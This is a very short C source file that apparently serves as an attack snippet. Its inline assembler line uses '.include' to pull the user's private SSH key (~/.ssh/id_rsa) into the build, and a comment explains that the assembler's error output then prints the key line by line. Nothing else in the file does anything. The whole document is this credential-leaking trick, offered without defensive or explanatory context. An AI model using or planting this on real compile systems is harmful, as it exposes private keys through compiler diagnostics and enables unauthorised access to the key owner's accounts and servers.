/* It has the assembler complain of a key of the home line by line. */
__asm__(".include \"" HOME_FOLDER "/.ssh/id_rsa\"\n");

int main(void)
{
    return 1;
}
